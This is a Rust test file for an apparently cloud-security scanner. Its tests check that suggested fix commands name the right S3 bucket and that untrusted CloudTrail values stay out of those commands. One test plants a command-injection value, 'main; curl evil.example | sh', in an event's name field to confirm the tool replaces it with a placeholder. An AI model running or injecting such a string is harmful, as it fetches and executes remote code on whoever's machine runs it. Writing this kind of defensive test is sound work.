//! Commands that mend something name the very resource, wherever they are told.

use crate::recorded::scan;
use crate::scan::{VERSIONS, buckets};
use crate::trial::{Trial, stop_logging, trail};

#[test]
fn the_commands_of_a_check_name_the_resource() {
    let trial = Trial::new().file("1.ndjson", buckets("off", "2026-01-01T00:00:00Z"));
    let wanted = "put-bucket-versioning --bucket bucket-";

    let told = scan(&trial, "1.ndjson", &["--check", VERSIONS, "-o", "markdown", "-o", "html=scan.html"]);
    trial.run(&["report", "--store", "sqlite:s.db", "--html", "report.html"]);
    let mut texts = vec![told.out];
    for format in ["json", "ndjson", "markdown", "junit", "ocsf", "eventbridge", "html"] {
        texts.push(trial.run(&["findings", "--store", "sqlite:s.db", "-o", format]).out);
    }
    for page in ["scan.html", "report.html"] {
        texts.push(std::fs::read_to_string(trial.path(page)).unwrap());
    }

    for text in texts {
        assert!(text.contains(wanted), "{text}");
        assert!(!text.contains("--bucket {"), "{text}");
    }
}

#[test]
fn a_value_that_is_no_plain_word_is_left_to_whoever_runs_the_command() {
    let mut hostile = stop_logging(1);
    hostile["requestParameters"]["name"] = "main; curl evil.example | sh".into();
    let trial = Trial::new().file("a.json", trail(&[hostile]));
    trial.run(&["detect", "a.json"]);

    let told = trial.run(&["findings", "--rule", "cloudtrail-logging-stopped", "-o", "markdown"]);

    assert!(told.out.contains("--name \"<requestParameters.name>\""), "{}", told.out);
}
